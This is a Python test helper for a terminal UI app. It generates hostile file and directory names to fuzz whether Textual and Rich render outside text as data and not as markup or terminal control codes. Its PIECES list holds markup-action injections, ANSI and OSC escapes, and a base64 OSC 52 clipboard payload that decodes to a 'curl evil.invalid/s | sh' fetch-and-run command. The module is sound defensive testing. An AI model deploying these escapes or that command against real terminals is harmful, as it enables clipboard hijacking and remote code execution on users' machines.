"""Hostile display strings, and the checks that the console shows them as data.

Every generated value starts with :data:`CANARY`, so a test can tell whether
outside text reached Textual's or Rich's markup parser at all
(:class:`MarkupWatch`), wherever in the console that happens, a widget written
after this test included. :func:`screen_problems` reads what the terminal
would be sent for the current screen and reports every control character in it.
"""

from __future__ import annotations

import contextlib
from collections.abc import Iterator

import rich.markup
from hypothesis import strategies as st
from rich.text import Text
from textual.content import Content

from smartsync_tui.core.text import CONTROL

CANARY = "Zq7"

#: What real directories and attackers put in names: brackets in every arrangement, markup
#: tags and actions, unbalanced tags, terminal escapes (CSI, OSC 52 clipboard, OSC title, C1
#: CSI), NUL, bidi controls, line breaks, CJK, combining marks, emoji.
PIECES = [
    "Compras [SP]", "[TI] Suporte", "Projetos [/2019]", "[/x]", "[/]", "[", "]", "[[", "]]", "[]", "\\[", "[b]",
    "[/b]", "[bold red]", "[@click=app.quit]", "[@click=app.bell]", "[link=https://evil.invalid]x[/link]",
    "[on red]", "[$accent]", "$name", "%s", "%(x)s", "{0}", "{x}", "\x1b[2J", "\x1b[31m", "\x1b]52;c;Y3VybCBldmlsLmludmFsaWQvcyB8IHNo\x07",
    "\x1b]0;pwned\x07", "\x9b31m", "\x9d0;t\x9c", "\x00", "\u202e", "\u2066", "\u200f", "\u2028", "\n", "\r",
    "\x85", "\t", "李伟", "Иван", "e\u0301", "🙂", "Souza, Paulo", "a=b", "\\", "'", '"', "<b>", "&amp;",
]

hostile_piece = st.one_of(
    st.sampled_from(PIECES),
    st.text(alphabet=st.sampled_from("[]/@=$ab \\"), min_size=1, max_size=8),
)


def hostile_text(*, max_pieces: int = 6, long: bool = True) -> st.SearchStrategy[str]:
    """A display string of hostile pieces after the canary; sometimes 500 characters long."""
    base = st.lists(hostile_piece, min_size=1, max_size=max_pieces).map(lambda parts: CANARY + "".join(parts))
    if not long:
        return base
    return st.one_of(base, base.map(lambda text: (text * (500 // len(text) + 1))[:500]))


def markup_safe_name(text: str) -> str:
    """``text`` as a value an LDAP server stores in a CN (no NUL, no line breaks at either end)."""
    return text.replace("\x00", "").strip() or CANARY


class MarkupWatch:
    """Records every string handed to a markup parser that holds outside text (the canary)."""

    def __init__(self) -> None:
        self.parsed: list[str] = []

    @contextlib.contextmanager
    def watching(self) -> Iterator["MarkupWatch"]:
        original_content = Content.from_markup.__func__  # type: ignore[attr-defined]
        original_render = rich.markup.render

        def content_from_markup(cls, markup, **variables):  # type: ignore[no-untyped-def]
            if isinstance(markup, str) and CANARY in markup:
                self.parsed.append(markup)
            return original_content(cls, markup, **variables)

        def render(markup, *args, **kwargs):  # type: ignore[no-untyped-def]
            if CANARY in markup:
                self.parsed.append(markup)
            return original_render(markup, *args, **kwargs)

        Content.from_markup = classmethod(content_from_markup)  # type: ignore[method-assign, assignment]
        rich.markup.render = render  # Text.from_markup imports it when called
        try:
            yield self
        finally:
            Content.from_markup = classmethod(original_content)  # type: ignore[method-assign, assignment]
            rich.markup.render = original_render


def screen_lines(app) -> list[str]:  # type: ignore[no-untyped-def]
    """The current screen as the terminal would get it: one string per row."""
    strips = app.screen._compositor.render_strips()
    return ["".join(segment.text for segment in strip) for strip in strips]


def screen_problems(app) -> list[str]:  # type: ignore[no-untyped-def]
    """Each row of the screen that holds a control, separator or bidi character."""
    return [repr(line) for line in screen_lines(app) if CONTROL.search(line)]


def plain(cell: object) -> str:
    """A table cell's text (cells are rich Text; a str cell would be markup)."""
    assert isinstance(cell, (Text, Content)), f"a table cell is a {type(cell).__name__}, which Textual reads as markup"
    return cell.plain
